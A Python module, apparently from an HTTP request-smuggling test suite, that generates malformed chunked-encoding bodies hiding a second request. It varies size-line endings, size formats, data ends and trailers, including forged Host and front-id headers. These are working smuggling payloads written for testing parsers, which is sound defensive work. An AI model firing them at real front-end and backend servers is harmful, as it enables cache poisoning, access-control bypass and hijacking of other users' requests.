"""Attacks on chunked bodies: what ends a size line, how a size is written, what follows the data, and the trailers."""

from .attack import PIPELINED, REFUSED, Attack, head, row

_CODING = "Transfer-Encoding: chunked"
_LAST = b"0\r\n\r\n"


def _row(name, body, direct=REFUSED):
    return row(f"chunk-{name}", direct, _CODING, body=body)


# Line ends in a size line (TERM.EXT: the front takes them for its end, the backend for a part of the extension).


def _extension_then_end(end):
    """EXT.TERM. To who ends the line at `end`, the chunk is the filler and the hidden request comes behind the last
    chunk. To who reads on, the filler is the extension and the chunk holds the hidden request."""

    def body(hidden):
        data = _LAST + hidden
        return b"%x;%s%s\r\n%s\r\n0\r\n\r\n" % (len(data), end, b"a" * len(data), data)

    return body


def _end_then_extension(end):
    """TERM.EXT, the other way about: to who reads on, the hidden request comes behind the last chunk."""

    def body(hidden):
        second = b"\r\n" + _LAST + hidden
        for_backend = b"\r\n%x\r\n" % len(second)
        filler = b"a" * (len(for_backend) - 2) + b"\r\n"
        return b"%x;%s%s%s%s\r\n0\r\n\r\n" % (len(filler), end, filler, for_backend, second)

    return body


_LINE_ENDS = {"lf": b"\n", "cr": b"\r", "lf-cr": b"\n\r", "cr-cr": b"\r\r", "vertical-tab": b"\x0b", "nul": b"\0"}


def _of_line_ends():
    for name, end in _LINE_ENDS.items():
        yield _row(f"EXT.TERM-{name}", _extension_then_end(end))
        yield _row(f"TERM.EXT-{name}", _end_then_extension(end))
        yield _row(f"size-ends-in-{name}", lambda hidden, end=end: b"5%sAAAAA\r\n" % end + _LAST + hidden)
    yield _row("EXT.TERM-lf-quoted", _extension_then_end(b'x="\n'))
    yield _row("TERM.EXT-lf-quoted", _end_then_extension(b'x="\n'))


# What follows a chunk's data (ONE.TWO: one byte for the front, two for the backend).


def _data_end(end, skipped):
    """The data ends in `end`. Who passes over `skipped` bytes more than the other finds a smaller next size, and behind
    it the last chunk and the hidden request."""

    def body(hidden):
        inner = b"AAAAA\r\n" + _LAST + hidden
        size = 0x505 if skipped == 1 else 0x5005
        return b"5\r\nAAAAA%s%x\r\n%s\r\n" % (end, size, inner.ljust(size, b"a")) + _LAST

    return body


def _of_data_ends():
    yield _row("ONE.TWO-lf", _data_end(b"\n", 1))
    yield _row("ONE.TWO-cr", _data_end(b"\r", 1))
    yield _row("ZERO.TWO", _data_end(b"", 2))
    yield _row("ZERO.ONE", _data_end(b"", 1))
    yield _row("TWO.ONE", lambda hidden: b"5\r\nAAAAA\r\n\n" + _LAST + hidden)
    yield _row("data-ends-in-two-letters", lambda hidden: b"5\r\nAAAAAXX" + _LAST + hidden)
    yield _row("data-ends-in-lf-cr", lambda hidden: b"5\r\nAAAAA\n\r" + _LAST + hidden)
    yield _row("data-longer-than-size", lambda hidden: b"5\r\nAAAAAAA\r\n" + _LAST + hidden)
    yield _row("no-last-chunk", lambda hidden: b"5\r\nAAAAA\r\n" + hidden)


#: How the size of the chunk that holds the hidden request may be written.
_SIZES = {
    "0x": "0x{n:x}",
    "plus": "+{n:x}",
    "minus": "-{n:x}",
    "space-before": " {n:x}",
    "space-after": "{n:x} ",
    "tab-after": "{n:x}\t",
    "word-after": "{n:x} cow",
    "zero-and-size": "0 {n:x}",
    "digit-separator": "0_{n:x}",
    "zero-and-other-letter": "0z{n:x}",
    "comma": "0,{n:x}",
    "point": "0.{n:x}",
    "no-size-but-extension": ";a={n:x}",
    "beyond-64-bits": "1000000000000{n:04x}",
    "beyond-64-bits-by-far": "10000000000000000000{n:04x}",
    "the-64th-bit": "800000000000{n:04x}",
    "all-bits-set": "FFFFFFFFFFFFFFFF",
    "beyond-32-bits": "10000{n:04x}",
    "empty-line-before": "\r\n{n:x}",
    "nul-before": "\0{n:x}",
    "form-feed-before": "\x0c{n:x}",
    "full-width-digit": "\xef\xbc\x90{n:x}",
}


def _sized(pattern):
    """A chunk that holds the hidden request behind an empty line, so that a size taken for 0 lets it out."""

    def body(hidden):
        data = b"\r\n" + hidden
        return pattern.format(n=len(data)).encode("latin-1") + b"\r\n" + data + b"\r\n" + _LAST

    return body


def _of_sizes():
    for name, pattern in _SIZES.items():
        yield _row(f"size-{name}", _sized(pattern))
    for zeros in (4, 15, 16, 17, 64):
        padding = b"0" * zeros
        yield _row(f"last-of-{zeros}-zeros", lambda h, p=padding: b"5\r\nAAAAA\r\n" + p + b"\r\n\r\n" + h, PIPELINED)
        yield _row(f"size-with-{zeros}-zeros", lambda h, p=padding: p + b"5\r\nAAAAA\r\n" + _LAST + h, PIPELINED)
    yield _row("extension-plain", lambda hidden: b'5;a=b;c="d"\r\nAAAAA\r\n' + _LAST + hidden, PIPELINED)
    yield _row("extension-long", lambda hidden: b"5;" + b"a" * 70_000 + b"\r\nAAAAA\r\n" + _LAST + hidden)
    yield _row("minus-zero", lambda hidden: b"-0\r\n\r\n" + hidden)


#: What stands after the last chunk's size line, before and around the hidden request.
_TRAILERS = {
    "framing": (b"Content-Length: 5\r\nTransfer-Encoding: x\r\n\r\n", b""),
    "coding": (b"Transfer-Encoding: chunked\r\n\r\n", b""),
    "host-and-id": (b"Host: other.example\r\nX-Front-Id: forged\r\n\r\n", b""),
    "request-as-trailers": (b"", b""),
    "request-behind-trailer": (b"X-Other: a\r\n", b""),
    "bare-lf-end": (b"\n", b""),
    "bare-lf-in-trailer": (b"X-Other: a\n\n", b""),
    "bare-lf-request": (b"X-Other: a\n\n", b"\r\n\r\n"),
    "bare-cr-end": (b"\r", b""),
    "bare-cr-in-trailer": (b"X-Other: a\r\r", b""),
    "lf-cr": (b"X-Other: a\n\r\n", b""),
    "folded": (b"X-Other: a\r\n \r\n\r\n", b""),
    "folded-first": (b" X-Other: a\r\n\r\n", b""),
    "space-line": (b" \r\n", b""),
    "nul": (b"X-Other: \0\r\n\r\n", b""),
    "no-colon": (b"cow\r\n\r\n", b""),
    "space-before-colon": (b"X-Other : a\r\n\r\n", b""),
    "long": (b"X-Other: " + b"a" * 70_000 + b"\r\n\r\n", b""),
}
#: Trailers that may not be there are refused or dropped, as others are, whether or not another request follows.
_FORBIDDEN_TRAILERS = {"framing", "coding", "host-and-id"}


def _of_trailers():
    for name, (before, after) in _TRAILERS.items():
        direct = PIPELINED if name in _FORBIDDEN_TRAILERS else REFUSED
        yield _row(f"trailer-{name}", lambda h, b=before, a=after: b"0\r\n" + b + h + a, direct)
    yield _row("trailer-good", lambda hidden: b"0\r\nX-Other: a\r\n\r\n" + hidden, PIPELINED)
    yield _row("last-chunk-ends-in-lf", lambda hidden: b"0\n\n" + hidden)
    yield _row("last-chunk-ends-in-lf-and-crlf", lambda hidden: b"0\n\r\n" + hidden)
    yield _row("last-chunk-without-empty-line", lambda hidden: b"0\r\n" + hidden)


def _in_pieces(hidden):
    """The last chunk comes apart between its CR and its LF."""
    return [head(_CODING) + b"5\r\nAAAAA\r", b"\n0\r", b"\n\r", b"\n" + hidden]


ROWS = [
    *_of_line_ends(),
    *_of_data_ends(),
    *_of_sizes(),
    *_of_trailers(),
    Attack("chunk-in-pieces", _in_pieces, PIPELINED),
]
